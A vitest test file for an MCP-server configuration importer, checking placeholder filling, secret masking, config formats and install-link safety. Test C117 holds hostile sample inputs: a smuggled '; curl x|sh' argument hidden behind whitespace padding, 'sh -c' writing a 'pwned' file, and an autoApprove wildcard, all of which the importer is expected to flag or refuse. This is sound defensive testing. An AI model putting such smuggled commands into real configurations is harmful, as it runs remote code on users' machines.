import { existsSync, mkdirSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { ImportPick, ImportPreview } from '../shared/import.ts';
import { CASES_SKIPPED, CasePlay, hasCases } from './support/case-play.ts';
import { until } from './support/census.ts';

const filesBelow = (dir: string): string[] => readdirSync(dir).flatMap((name) => (statSync(join(dir, name)).isDirectory() ? filesBelow(join(dir, name)) : [join(dir, name)]));
const PASSPHRASE = { GANTRY_PASSPHRASE: 'a long passphrase for tests' };

describe.skipIf(!hasCases)(`import, played against the product ${CASES_SKIPPED}`, () => {
  let play: CasePlay;
  let home: string;
  beforeEach(() => {
    play = new CasePlay();
    home = join(play.folder, 'home');
    mkdirSync(home);
  });
  afterEach(() => play.end());

  const start = (env: Readonly<Record<string, string>> = {}): Promise<void> => play.start({ ...PASSPHRASE, HOME: home, XDG_CONFIG_HOME: join(home, '.config'), ...env });
  const keysOf = (preview: ImportPreview): string[] => preview.servers.map((server) => server.key);
  const apply = async (previewId: string, ...servers: ImportPick[]) => (await play.ask('import:apply', { previewId, servers })).results;
  /** A person switches it on and agrees to the launch that is shown. */
  const switchOn = async (serverId: string) => {
    const { launch } = await play.server(serverId);
    await play.ask('servers:enable', { serverId });
    return play.ask('servers:connect', { serverId, consent: launch.fingerprint });
  };
  const record = (serverId: string): string => join(play.folder, `${serverId}.record`);
  const entry = (serverId: string, caseId: string, more: { args?: string[]; env?: Record<string, string> } = {}) => {
    const [command, ...args] = play.playerLine(serverId, caseId);
    return { command, args: [...args, ...(more.args ?? [])], env: { FAKE_MCP_RECORD: record(serverId), ...more.env } };
  };

  test('C005 placeholders are filled in for their own server, by name and once confirmed; the missing one is named; no screen shows a value', async () => {
    await start({ FX_TOKEN: 'tok-123-secret' });
    const config = { mcpServers: { srv: entry('srv', 'C005', { args: ['--key=${FX_TOKEN}'], env: { A_TOKEN: '${FX_TOKEN}', MODE: '${FX_MODE:-prod}', PRICE: '$5 and $${KEEP}' } }), bad: { ...entry('bad', 'C005'), env: { X: '${FX_MISSING}' } } } };
    const preview = await play.ask('import:read', { text: JSON.stringify(config) });
    expect(preview.servers.map((server) => server.asks.map((ask) => [ask.variable, ask.present]))).toEqual([[['FX_TOKEN', true], ['FX_MODE', false]], [['FX_MISSING', false]]]);
    expect(await apply(preview.previewId, { key: 'srv' })).toMatchObject([{ outcome: 'failed', fault: { code: 'import_undecided', details: { asks: ['FX_TOKEN', 'FX_MODE'] } } }]);
    expect(await apply(preview.previewId, { key: 'srv', answers: { FX_TOKEN: { use: 'host' }, FX_MODE: { use: 'host' } } }, { key: 'bad', answers: { FX_MISSING: { use: 'host' } } })).toMatchObject([{ outcome: 'added', serverId: 'srv' }, { outcome: 'added', serverId: 'bad' }]);
    expect((await play.ask('servers:list', {})).servers.map((server) => [server.id, server.enabled])).toEqual([['srv', false], ['bad', false]]);
    expect(play.records('srv')).toEqual([]);

    expect(await switchOn('bad')).toMatchObject({ state: 'unavailable', code: 'variable_missing', fault: { field: 'env.X', details: { variable: 'FX_MISSING' } } });
    expect(await switchOn('srv')).toEqual({ state: 'ready' });
    const line = play.records('srv').find((event) => event.ev === 'record')!.text!;
    expect(line).toContain('--key=tok-123-secret');
    expect(line).toContain('A_TOKEN=tok-123-secret MODE=prod PRICE=$5 and ${KEEP}');
    expect(await play.echo('srv')).toBe('hi');

    const { runs } = await play.ask('runs:list', {});
    const shown = [preview, await play.server('srv'), await play.server('bad'), await play.ask('servers:logs', { serverId: 'srv' }), ...(await Promise.all(runs.flatMap((run) => [play.ask('runs:get', { runId: run.id }), play.ask('runs:export', { runId: run.id })])))];
    expect(JSON.stringify(shown)).toContain('${FX_TOKEN}');
    for (const one of shown) expect(JSON.stringify(one)).not.toContain('tok-123-secret');
    const called = await play.rpc('calls:try', { capabilityId: 'mcp:srv:tool:echo', input: { text: 'is it tok-123-secret' } });
    expect(called).toMatchObject({ ok: true, value: { code: 'secret_in_input' } });
    await play.gantry.stop();
    for (const file of filesBelow(play.gantry.dataDir)) expect(readFileSync(file).includes('tok-123-secret'), file).toBe(false);
  });

  test('C109 secrets with odd names, in arguments, addresses and headers, are masked, sealed and nowhere else', async () => {
    await start();
    const config = { mcpServers: { srv: entry('srv', 'C109', { args: ['--token', 'MARK-ARG-1'], env: { GH_PAT: 'MARK-ENV-2', db: 'postgres://u:MARK-URL-3@h/x' } }), web: { url: 'http://127.0.0.1:9/mcp?key=MARK-QUERY-5', headers: { 'X-Whatever': 'MARK-HDR-4' } } } };
    const preview = await play.ask('import:read', { text: JSON.stringify(config) });
    expect(preview.servers[0]!.values.filter((value) => value.secret).map((value) => value.place.split('.')[0] === 'arg' ? 'arg' : value.place)).toEqual(['arg', 'env.GH_PAT', 'env.db']);
    expect(await apply(preview.previewId, { key: 'srv' }, { key: 'web' })).toMatchObject([{ outcome: 'added' }, { outcome: 'added' }]);
    expect(await switchOn('srv')).toEqual({ state: 'ready' });
    expect(play.starts('srv')[0]!.argv!.slice(-2)).toEqual(['--token', 'MARK-ARG-1']);
    expect(await switchOn('web')).toMatchObject({ state: 'unavailable', code: 'connection_failed' });
    const capabilityId = 'mcp:srv:tool:echo';
    await play.ask('capabilities:review', { capabilityId, tier: 'read_only', admit: true });
    await play.ask('calls:try', { capabilityId, input: { text: 'x' }, wait: true });
    const { runs } = await play.ask('runs:list', {});
    const shown = [preview, await play.server('srv'), await play.server('web'), await play.ask('servers:logs', { serverId: 'srv' }), await play.ask('servers:logs', { serverId: 'web' }), await play.ask('secrets:list', {}), ...(await Promise.all(runs.flatMap((run) => [play.ask('runs:get', { runId: run.id }), play.ask('runs:export', { runId: run.id })])))];
    for (const one of shown) expect(JSON.stringify(one)).not.toContain('MARK-');
    await play.gantry.stop();
    for (const file of filesBelow(play.gantry.dataDir)) expect(readFileSync(file).includes('MARK-'), file).toBe(false);
  });

  test('C111 every shape works or says what is wrong where; who is here stays; the same name asks', async () => {
    await start();
    await play.add('keep', 'C010');
    const srv = entry('a', 'C009');
    const shapes = [{ a: srv }, { servers: { a: { type: 'stdio', ...srv } } }, { mcp: { servers: { a: srv } } }, { mcpServers: [{ name: 'a', ...srv }] }, srv, { inputs: [{ id: 'x', type: 'promptString', password: true }], servers: { a: { ...srv, env: { ...srv.env, K: '${input:x}' } } } }];
    for (const [at, shape] of shapes.entries()) {
      const preview = await play.ask('import:read', { text: JSON.stringify(shape, null, 2) });
      const [server] = preview.servers;
      expect(preview.servers, JSON.stringify(shape)).toHaveLength(1);
      const pick = { key: server!.key, name: `shape ${at}`, ...(at === 5 ? { answers: { 'input:x': { use: 'value' as const, value: { secret: 'pw' } } } } : {}) };
      if (at === 0) expect(server!.existing).toEqual([]);
      else expect(await apply(preview.previewId, pick)).toMatchObject([{ outcome: 'failed', fault: { code: 'import_undecided', field: 'onConflict', details: { existing: expect.any(Array) } } }]);
      const [added] = await apply(preview.previewId, { ...pick, onConflict: at === 1 ? 'replace' : 'keep_both' });
      expect(added).toMatchObject({ outcome: 'added', replaced: at === 1 ? 'shape-0' : null });
    }
    expect((await play.ask('servers:list', {})).servers.map((server) => server.id).sort()).toEqual(['keep', 'shape-1', 'shape-2', 'shape-3', 'shape-4', 'shape-5']);
    expect((await switchOn('shape-5')).state).toBe('ready');
    expect(await play.rpc('import:read', { text: '{\n  "a": { "command": "x"\n' })).toMatchObject({ ok: false, error: { code: 'import_unreadable', details: { line: 3, column: 1 } } });
    expect(await play.rpc('import:read', { text: '{"theme": "dark"}' })).toMatchObject({ ok: false, error: { code: 'import_no_servers', details: { found: ['theme'] } } });
  });

  test('C117 a link shows the whole of what it would run, starts nothing, and may not bring a shell line, another scheme or a long payload', async () => {
    await start();
    const { links } = (JSON.parse(readFileSync(join(process.env['GANTRY_SHARED'] ?? join(import.meta.dirname, '../../shared'), 'cases/cases.json'), 'utf8')) as { id: string; reproduction: { environment: { links: string[] } } }[]).find((one) => one.id === 'C117')!.reproduction.environment;
    const [first, shell, script] = await Promise.all(links.map((text) => play.ask('import:read', { text })));
    const nice = first!.servers[0]!;
    expect(nice.name).toBe('Nice Tool');
    expect(nice.values.filter((value) => value.place.startsWith('arg.')).map((value) => value.shown)).toEqual(['-y', 'nice-tool', expect.stringMatching(/^ {200,}$/), '; curl x|sh']);
    expect(nice.warnings.map((warning) => warning.code)).toEqual(['shell_characters', 'padding']);
    expect(nice.suggested).toBe(false);
    expect(nice.notBrought).toMatchObject([{ field: 'dxtPath', reason: 'unknown', shown: '/tmp/evil' }, { field: 'autoApprove', reason: 'grants', shown: '["*"]' }]);
    expect(shell!.servers[0]).toMatchObject({ fault: { code: 'import_unfit', details: { why: 'shell_from_link' } }, warnings: [{ code: 'shell' }] });
    expect(shell!.servers[0]!.values.map((value) => value.shown)).toEqual(['sh', '-c', 'id > /tmp/fx/pwned']);
    expect(script!.servers[0]).toMatchObject({ fault: { code: 'import_unfit', details: { why: 'address' } } });
    expect(await apply(shell!.previewId, { key: shell!.servers[0]!.key })).toMatchObject([{ outcome: 'failed', fault: { code: 'import_unfit' } }]);
    expect(await play.rpc('import:read', { text: `app://install?name=x&config=${Buffer.from(JSON.stringify({ command: 'x', args: ['y'.repeat(40_000)] })).toString('base64')}` })).toMatchObject({ ok: false, error: { code: 'import_too_large', details: { limitBytes: 32768 } } });

    await play.ask('import:forget', { previewId: first!.previewId });
    expect(await play.rpc('import:apply', { previewId: first!.previewId, servers: [{ key: nice.key }] })).toMatchObject({ ok: false, error: { code: 'not_found' } });
    const again = await play.ask('import:read', { text: links[0]! });
    expect(await apply(again.previewId, { key: nice.key, as: 'command' })).toMatchObject([{ outcome: 'added', serverId: 'nice-tool' }]);
    const server = await play.server('nice-tool');
    expect(server).toMatchObject({ enabled: false, consentedFingerprint: null, spec: { command: 'npx', args: nice.values.filter((value) => value.place.startsWith('arg.')).map((value) => value.shown) } });
    expect(server.facts.filter((fact) => fact.step === 'consented')).toEqual([]);
    expect(await play.ask('servers:connect', { serverId: 'nice-tool' })).toMatchObject({ code: 'disabled' });
    expect(existsSync('/tmp/fx/pwned')).toBe(false);
  });

  test('IM50 the settings of every program in a home folder are found, one that is broken says where, and the files stay as they were', async () => {
    const write = (path: string, text: string): void => {
      const file = join(home, path);
      mkdirSync(join(file, '..'), { recursive: true });
      writeFileSync(file, text);
    };
    const server = (name: string) => JSON.stringify({ mcpServers: { [name]: { command: 'node', args: [`${name}.js`] } } });
    write('.config/Claude/claude_desktop_config.json', server('claude'));
    write('.claude.json', server('code'));
    write('.config/Code/User/mcp.json', '{"servers": {"vs": {"command": "node", "args": ["vs.js"]},},}');
    write('.config/Code/User/profiles/1a/mcp.json', '{"servers": {"profile": {"command": "node", "args": ["p.js"]}}}');
    write('.config/Code/User/settings.json', '{"editor.fontSize": 12, "mcp": {"servers": {"vs": {"command": "node", "args": ["vs.js"]}}}}');
    write('.cursor/mcp.json', '{"mcpServers": {"c": {"command": "node" "args": []}}}');
    write('.codeium/windsurf/mcp_config.json', server('wind'));
    write('.config/Code/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json', server('cline'));
    write('.codex/config.toml', '[mcp_servers.codex]\ncommand = "node"\nargs = ["codex.js"]\n');
    write('.config/zed/settings.json', '{"context_servers": {"zed": {"command": "node", "args": ["zed.js"]}}}');
    write('.gemini/settings.json', server('gemini'));
    write('.lmstudio/mcp.json', server('lm'));
    const before = filesBelow(home).map((file) => [file, readFileSync(file, 'utf8'), statSync(file).mtimeMs]);
    await start();
    const preview = await play.ask('import:scan', {});
    expect(keysOf(preview).sort()).toEqual(['claude', 'cline', 'code', 'codex', 'gemini', 'lm', 'profile', 'vs', 'wind', 'zed']);
    expect(preview.servers.find((one) => one.key === 'vs')!.sources).toHaveLength(2);
    expect(preview.sources.filter((one) => one.state === 'failed')).toMatchObject([{ host: 'cursor', fault: { code: 'import_unreadable', details: { line: 1, column: 41 } } }]);
    expect(await apply(preview.previewId, ...preview.servers.map((one) => ({ key: one.key })))).toSatisfy((results: { outcome: string }[]) => results.every((one) => one.outcome === 'added'));
    const again = await play.ask('import:scan', {});
    expect(again.servers.every((one) => one.existing[0]?.how === 'same' && !one.suggested)).toBe(true);
    expect(filesBelow(home).map((file) => [file, readFileSync(file, 'utf8'), statSync(file).mtimeMs])).toEqual(before);
    await until('nothing runs', () => play.live('claude').length === 0);
  });

  test('IM51 a script brings a server in by one request that names its source, and nothing is kept between', async () => {
    await start();
    const file = join(home, 'project', '.mcp.json');
    mkdirSync(join(file, '..'));
    writeFileSync(file, JSON.stringify({ mcpServers: { a: entry('a', 'C009') } }));
    const read = await play.ask('import:read', { path: file });
    expect(read.sources).toMatchObject([{ host: 'claude-code', path: file, state: 'read', servers: 1 }]);
    const { results } = await play.ask('import:apply', { source: { path: file }, servers: [{ key: 'a' }, { key: 'nobody' }] });
    expect(results).toMatchObject([{ outcome: 'added', serverId: 'a' }, { outcome: 'failed', fault: { code: 'not_found' } }]);
    expect((await switchOn('a')).state).toBe('ready');
    expect(await play.rpc('import:read', { path: 'relative.json' })).toMatchObject({ ok: false, error: { code: 'invalid_request' } });
    expect(await play.rpc('import:read', { path: join(home, 'none.json') })).toMatchObject({ ok: false, error: { code: 'file_unreadable', details: { cause: 'absent' } } });
    expect(await play.rpc('import:read', { path: home })).toMatchObject({ ok: false, error: { code: 'file_unreadable', details: { cause: 'not_a_file' } } });
  });
});
